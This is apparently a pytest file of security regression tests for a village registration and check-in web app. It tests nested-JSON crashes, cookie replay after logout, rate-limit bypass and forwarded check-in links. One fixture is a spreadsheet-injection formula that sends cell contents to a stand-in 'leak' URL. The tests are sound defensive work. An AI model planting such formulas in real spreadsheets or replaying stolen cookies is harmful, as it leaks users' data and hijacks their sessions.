def test_json_nested_too_deeply_is_bad_json_not_a_server_error(client, village, path, depth):
    """ "[" * 1000 once answered 500 (a RecursionError in the JSON decoder), logged in or not."""
    user = factories.gen_user(Role.VILLAGE_ADMIN, village.village)
    token, _ = auth_services.issue_token(user, 1)
    db.session.commit()
    response = client.post(path, data="[" * depth + "]" * depth, content_type="application/json",
                           headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 400, response.get_data(as_text=True)
    assert response.get_json()["error"]["code"] == "bad_request"


FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"查看")'


def _cells(data: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]


def test_exported_workbooks_keep_text_that_looks_like_a_formula_as_text(village):
    """A rule named like a formula came out of the rule book's export as a live formula; the register's export is
    guarded the same way (an address typed by anyone who keeps the register)."""
    factories.gen_rule(village.village, FORMULA, 5)
    home = factories.gen_household(village.grids[0])
    home.address = FORMULA
    db.session.commit()
    assert _cells(export_workbook(rule_book(village.village.id, local_today()))) == [(FORMULA, "s")]
    assert _cells(export_register(village.village)) == [(FORMULA, "s")]


def _cookies(client) -> dict:
    return {cookie.key: cookie.value for cookie in client._cookies.values()}


def test_logging_out_ends_the_login_on_the_server(app, village):
    """After POST /logout the old session cookie and the old remember-me cookie (60 days) both opened /me."""
    user = factories.gen_user(Role.VILLAGE_ADMIN, village.village)
    db.session.commit()
    phone = app.test_client()
    assert phone.post("/login", data={"username": user.username, "password": factories.PASSWORD,
                                      "remember": "y"}).status_code == 302
    copied = _cookies(phone)
    assert {"session", app.config["REMEMBER_COOKIE_NAME"]} <= set(copied)
    other_device = app.test_client()
    other_device.post("/login", data={"username": user.username, "password": factories.PASSWORD})
    assert phone.get("/me").status_code == 200
    phone.post("/logout")
    for name in ("session", app.config["REMEMBER_COOKIE_NAME"]):
        thief = app.test_client()
        thief.set_cookie(name, copied[name])
        assert thief.get("/me").status_code == 302, f"the copied {name} cookie still opens /me"
    assert other_device.get("/me").status_code == 200, "the login on another device goes on"


def test_gunicorn_refuses_several_workers_that_would_each_keep_their_own_limits(tmp_path):
    """With the limits in memory, 2 workers let 20 wrong passwords through at a limit of 10 a minute."""
    environment = dict(os.environ, DATABASE_URL=f"sqlite:///{tmp_path}/points.db", SECRET_KEY="test",
                       RATELIMIT_STORAGE_URI="memory://", RATELIMIT_ENABLED="true", WEB_CONCURRENCY="2",
                       BIND="127.0.0.1:0")
    started = subprocess.run([sys.executable, "-m", "gunicorn", "points:create_app()"], env=environment,
                             cwd=os.path.dirname(os.path.dirname(points.__file__)), capture_output=True, text=True,
                             timeout=60)
    assert started.returncode != 0
    assert "RATELIMIT_STORAGE_URI=redis://127.0.0.1:6379" in started.stderr + started.stdout


@pytest.mark.parametrize("digits", ["١", "１", "𝟏"])
def test_ids_are_ascii_digits(client, village, digits):
    """/households/１ once resolved to household 1."""
    user = factories.gen_user(Role.VILLAGE_ADMIN, village.village)
    token, _ = auth_services.issue_token(user, 1)
    db.session.commit()
    assert client.get(f"/api/v1/grids/{digits}", headers={"Authorization": f"Bearer {token}"}).status_code == 404


def test_a_forwarded_check_in_link_asks_to_scan_the_code_where_it_is_shown(app, open_event):
    """The 10-minute pass a scanned rotating code gives was forwarded; another villager opened it at home 75 s later
    and was checked in."""
    first, second = open_event.villagers
    at_the_event = sign_in(app, first)
    scanned = at_the_event.get(f"/c/{event_checkins.rotating_token(open_event.event)}")
    link = scanned.headers["Location"]
    assert at_the_event.post(link, data={"action": "in"}).status_code == 200
    at_home = sign_in(app, second)
    for answer in (at_home.get(link), at_home.post(link, data={"action": "in"})):
        assert answer.status_code == 403
        assert "这个签到链接只能在扫码的手机上使用" in answer.get_data(as_text=True)
    token = link.removeprefix("/c/")
    api = app.test_client().post("/api/v1/checkins", json={"event_id": open_event.event.id, "token": token},
                                 headers=bearer(second))
    assert api.status_code == 403 and api.get_json()["error"]["code"] == "scan_here"
    db.session.expire_all()
    assert db.session.get(type(open_event.event), open_event.event.id).attendees == 1
